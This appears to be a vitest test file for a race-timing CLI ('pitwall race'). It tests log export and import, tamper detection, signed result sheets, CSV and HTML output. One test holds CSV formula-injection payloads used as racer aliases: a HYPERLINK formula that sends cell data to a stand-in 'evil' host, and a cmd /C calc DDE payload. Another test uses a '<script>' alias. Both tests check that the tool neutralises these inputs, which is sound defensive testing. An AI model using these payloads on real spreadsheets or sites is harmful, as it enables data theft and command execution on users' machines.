import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Command } from 'commander';
import { afterEach, beforeEach, expect, it, vi } from 'vitest';
import { DeskWorld, race } from '../../testing/desk-world.js';
import { addRace } from './race.js';

let folder: string;
let world: DeskWorld;

beforeEach(async () => {
  folder = mkdtempSync(join(tmpdir(), 'pitwall-race-command-'));
  world = await new DeskWorld({}, join(folder, 'pitwall.db')).start();
  await world.openRace();
  const runId = await world.startRun();
  await world.laps(10, 9.5);
  await world.give({ type: 'finish', runId });
  await world.give({ type: 'confirm', runId });
});
afterEach(() => world.stop());

/** What `pitwall race …` prints. */
async function run(...args: string[]): Promise<string> {
  const said: string[] = [];
  const spies = [
    vi.spyOn(console, 'log').mockImplementation((line: string) => void said.push(`${line}\n`)),
    vi.spyOn(process.stdout, 'write').mockImplementation((text) => said.push(String(text)) > 0),
  ];
  try {
    const program = new Command().exitOverride();
    addRace(program);
    await program.parseAsync(['race', ...args], { from: 'user' });
  } finally {
    for (const spy of spies) spy.mockRestore();
  }
  return said.join('');
}

const here = () => ['--data', folder];
const elsewhere = () => ['--data', mkdtempSync(join(tmpdir(), 'pitwall-elsewhere-'))];

it('lists and shows', async () => {
  expect(await run('list', ...here())).toBe('friday  open  Friday night\n');
  expect(JSON.parse(await run('list', '--json', ...here()))).toMatchObject({ races: [{ race }] });
  expect(await run('show', race, ...here())).toContain('1  anna  9.500');
  expect(JSON.parse(await run('show', race, '--json', ...here()))).toEqual(await world.state());
});

it('takes a race elsewhere, and checks every record on the way', async () => {
  const file = join(folder, 'friday.json');
  await run('export', race, '--out', file, ...here());
  const there = elsewhere();
  expect(await run('import', file, ...there)).toBe('Race friday is here now.\n');
  expect(await run('import', file, ...there)).toBe('Race friday was here already.\n');
  expect(JSON.parse(await run('show', race, '--json', ...there))).toEqual(await world.state());
  expect(await run('verify', race, ...there)).toContain('the chain is whole');
  expect(await run('verify', file, ...there)).toContain('the chain is whole');
  await world.enter('ben');
  const longer = join(folder, 'longer.json');
  await run('export', race, '--out', longer, ...here());
  await expect(run('import', longer, ...there)).rejects.toMatchObject({ code: 'race-exists' });
});

it.each([
  ['a changed time', (text: string) => text.replace('"controllerAt":1000000000', '"controllerAt":1000000001')],
  [
    'a missing record',
    (text: string) =>
      text
        .split('\n')
        .filter((_, index) => index !== 4)
        .join('\n'),
  ],
  ['another format', (text: string) => text.replace('race-log/1', 'race-log/9')],
  ['half a file', (text: string) => text.slice(0, text.length / 2)],
])('refuses %s', async (_what, falsify) => {
  const file = join(folder, 'false.json');
  const text = await run('export', race, ...here());
  expect(falsify(text)).not.toBe(text);
  writeFileSync(file, falsify(text));
  await expect(run('verify', file, ...here())).rejects.toMatchObject({ code: 'log-invalid' });
  await expect(run('import', file, ...elsewhere())).rejects.toMatchObject({ code: 'log-invalid' });
});

it('exports laps as CSV', async () => {
  const lines = (await run('export', race, '--format', 'csv', ...here())).split('\r\n');
  expect(lines).toHaveLength(4);
  expect(lines[0]?.split(',')).toHaveLength(lines[1]?.split(',').length as number);
  expect(lines[2]).toContain(',anna,anna,qualifying,confirmed,2,crossing,true,9500000,9500000,0,100,');
});

it.each([
  ['=HYPERLINK("http://evil/?"&A1,"click")', `"'=HYPERLINK(""http://evil/?""&A1,""click"")"`],
  ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
])('an alias that a spreadsheet would run is text in the export of laps: %s', async (alias, cell) => {
  const entry = { racer: 'anna', alias, car: null, models: [] };
  await world.give({ type: 'change-entry', entry } as never);
  const csv = await run('export', race, '--format', 'csv', ...here());
  expect(csv).toContain(`,anna,${cell},qualifying,`);
});

it('signs a result sheet that belongs to this log and no other', async () => {
  const file = join(folder, 'sheet.json');
  await run('sheet', race, '--out', file, ...here());
  const { sheet, jws } = JSON.parse(readFileSync(file, 'utf8'));
  expect(sheet).toMatchObject({
    status: 'provisional',
    standings: [{ racer: 'anna', rank: 1 }],
    runs: [{ laps: [{}, {}] }],
  });
  expect(await run('verify', race, '--sheet', file, ...here())).toContain('the sheet is signed and belongs to it');
  // Signed with another key, or about another log.
  const log = join(folder, 'log.json');
  await run('export', race, '--out', log, ...here());
  await expect(run('verify', log, '--sheet', file, ...elsewhere())).rejects.toMatchObject({
    code: 'signature-invalid',
  });
  writeFileSync(file, JSON.stringify({ sheet, jws: `${jws.slice(0, -4)}AAAA` }));
  await expect(run('verify', race, '--sheet', file, ...here())).rejects.toMatchObject({ code: 'signature-invalid' });
});

it('prints a sheet', async () => {
  await world.give({ type: 'enter', entry: { racer: 'eve', alias: '<script>', car: null, models: [] } } as never);
  const html = await run('sheet', race, '--format', 'html', ...here());
  expect(html).toContain('Provisional results');
  expect(html).toContain('<td>9.500</td>');
  expect(html).toContain('&lt;script&gt;');
  expect(html).not.toContain('<script>');
});

it('says what it does not know', async () => {
  await expect(run('show', 'monday', ...here())).rejects.toMatchObject({ code: 'not-found' });
  await expect(run('show', 'Monday!', ...here())).rejects.toMatchObject({ code: 'config-invalid' });
  await expect(run('import', join(folder, 'nowhere'), ...here())).rejects.toMatchObject({ code: 'not-found' });
  await expect(run('export', race, '--format', 'xml', ...here())).rejects.toMatchObject({ code: 'config-invalid' });
});
